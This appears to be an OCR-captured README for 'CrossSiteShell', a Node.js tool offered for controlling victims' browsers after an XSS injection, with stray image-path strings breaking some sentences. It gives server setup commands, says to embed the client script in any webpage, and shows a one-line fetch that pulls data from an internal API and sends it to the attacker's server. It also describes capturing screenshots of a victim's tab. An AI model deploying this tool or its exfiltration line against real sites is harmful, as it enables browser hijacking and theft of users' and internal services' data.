A javascript/nodejs “reverse shell” that makes it easier to interact with the victim’s browser during XSS attacks.

demo gif


Run the following commands to start up the server:

npm install
node server.js

Then import the script located at http(s)://yourserver/client.js in any webpage.

Asynchronous data exfiltration

By default, the commands are executed through the eval function which is not asynchronous. To overcome this, I created a callback function (window.oobsend(string)) that sends data to the server asynchronously. Here’s an example of how to use it to communicate with an internal API:

fetch('https://internalservice/api').then(x => x.text().then(oobsend))

Taking screenshots

By using the .ss command in the console, CrossSiteShell will attempt to take a screenshot of the victims tab. This is achieved by importinganother library (html2canvas) that converts the HTML/CSS into a canvas and saves it’s content as an image. The image should be saved to your disk after it gets received.


HTTPS is notsupported by default. I’d recommendusing a reverse proxy such as nginx to redirect traffic to the script.


View Github